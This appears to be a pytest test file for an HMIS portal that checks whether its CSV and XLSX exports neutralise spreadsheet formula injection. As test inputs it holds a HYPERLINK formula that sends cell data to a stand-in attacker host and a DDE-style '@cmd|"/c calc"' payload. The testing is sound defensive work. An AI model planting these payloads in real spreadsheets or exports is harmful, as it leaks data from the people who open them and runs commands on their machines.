"""Text that agencies and staff type (program names, transfer reasons) never
runs as a formula in the files the portal exports."""

import csv
import io

import pytest
from openpyxl import load_workbook

from hmis_portal.core.exports import safe_cell
from referrals import services as referral_services
from tests.factories import MembershipFactory, OrganizationFactory
from tests.referrals.factories import ProgramFactory, make_referral, matcher, provider_staff

pytestmark = pytest.mark.django_db
LEAK = '=HYPERLINK("http://attacker.example/?leak="&A4,"Open")'


@pytest.mark.parametrize("value, expected", [
    (LEAK, "'" + LEAK), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Safe Haven", "Safe Haven"), ("", ""), (42, 42), (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@pytest.fixture
def leaky_program():
    organization = OrganizationFactory(name="@Agency")
    return ProgramFactory(organization=organization, name=LEAK)


def test_the_participation_workbook_holds_no_live_formula(client, leaky_program):
    client.force_login(MembershipFactory().user)
    response = client.get("/onboarding/participation-status.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'" + LEAK in values and "'@Agency" in values


def test_the_participation_csv_prefixes_formula_text(client, leaky_program):
    client.force_login(MembershipFactory().user)
    response = client.get("/onboarding/participation-status.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + LEAK in cells and "'@Agency" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_referrals_export_prefixes_a_transfer_reason_that_starts_with_at(client):
    ces = matcher()
    program = ProgramFactory(name="+Plus Housing")
    provider = provider_staff(program.organization)
    referral = make_referral(program, actor=ces)
    referral_services.referral_request_transfer(actor=provider, referral_id=referral.pk,
                                                reason='@cmd|"/c calc"!A1')
    client.force_login(ces)
    response = client.get("/referrals/export.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["transfer_reason"] == '\'@cmd|"/c calc"!A1'
    assert rows[0]["program"] == "'+Plus Housing"
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
